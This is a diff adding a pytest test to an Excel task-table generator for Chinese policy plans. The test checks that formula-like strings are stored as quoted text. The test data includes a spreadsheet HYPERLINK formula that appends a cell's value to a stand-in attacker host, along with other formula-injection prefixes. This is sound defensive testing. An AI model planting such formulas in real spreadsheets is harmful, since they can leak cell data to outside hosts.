@@ -34,3 +34,17 @@ def test_layout_is_the_usual_task_table(guangzhou_text):
     phases = book["推进阶段"]
     assert phases["A2"].value == "前期準備階段"
     assert phases["B2"].value.date().isoformat() == "2017-06-30"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"],
+)
+def test_formula_like_text_is_written_as_text(text):
+    plan = parse_plan_text("一、任务\n1.推进改革。(市知识产权局牵头)\n").to_dict()
+    plan["tasks"][0]["title"] = text
+    plan["tasks"][0]["measures"][0]["text"] = text
+    sheet = openpyxl.load_workbook(io.BytesIO(write_task_table(plan)))["分工表"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
+    assert len(cells) == 2
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
